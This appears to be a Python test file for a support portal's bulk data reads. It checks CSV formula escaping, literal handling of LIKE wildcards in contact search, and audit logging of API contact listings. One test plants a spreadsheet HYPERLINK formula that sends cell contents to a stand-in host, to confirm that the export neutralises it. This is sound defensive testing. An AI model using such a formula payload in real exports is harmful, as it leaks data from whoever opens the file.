"""Bulk reads of customer data (issue 13 item 10): CSV cells never run as spreadsheet formulas,
searches treat % and _ as text, and agents' API contact listings are audited like the CSV export."""

from __future__ import annotations

import csv
import io
from datetime import datetime

from portal.models import AuditLog, ConversationStatus, Role
from portal.services import spreadsheet
from tests import factories
from tests.api_support import api_as

RANGE = {"start": "2026-11-02", "end": "2026-11-04"}


def test_report_csv_escapes_a_formula_in_an_agents_name(client, login_as, db):
    login_as(Role.supervisor)
    evil = factories.agent(name='=HYPERLINK("http://x.example/?"&A1)')
    factories.conversation(
        status=ConversationStatus.active, assigned_to=evil.id, started_at=datetime(2026, 11, 3, 15), created_at=datetime(2026, 11, 3, 15)
    )
    db.session.commit()
    response = client.get("/reports/export.csv", query_string=RANGE)
    keys = {row[1] for row in csv.reader(io.StringIO(response.get_data(as_text=True))) if row[0] == "agent"}
    assert keys and all(not key.startswith(("=", "+", "-", "@")) for key in keys)
    assert f"'=HYPERLINK(\"http://x.example/?\"&A1) (#{evil.id})" in keys


def test_the_report_page_links_its_csv_with_its_own_filters_only(client, login_as):
    login_as(Role.supervisor)
    html = client.get("/reports", query_string={**RANGE, "_external": "1", "bogus": "x"}).get_data(as_text=True)
    assert "/reports/export.csv?start=2026-11-02&amp;end=2026-11-04" in html
    assert "bogus" not in html and "_external" not in html


def test_one_helper_escapes_every_formula_lead():
    assert [spreadsheet.safe_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok")] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "ok"
    ]


def test_contacts_search_treats_like_wildcards_as_text(client, login_as, db):
    login_as(Role.agent)
    factories.contact(name="Ana")
    factories.contact(name="100% Bruno")
    db.session.commit()
    for query, expected in (("%", "100% Bruno"), ("_", None), ("a_a", None)):
        html = client.get("/contacts", query_string={"q": query}).get_data(as_text=True)
        assert ("Ana" in html) is False, query
        if expected:
            assert expected in html


def test_agents_api_contact_listing_is_audited_like_the_csv_export(client, db):
    factories.contact(name="Ana")
    agent, api = api_as(client, Role.agent)
    assert api.get("/api/v1/contacts", query_string={"q": "ana"}).status_code == 200
    entry = db.session.query(AuditLog).filter_by(action="contacts.listed").one()
    assert entry.actor_id == agent.id and entry.details == {"count": 1, "q": "ana", "cursor": None}
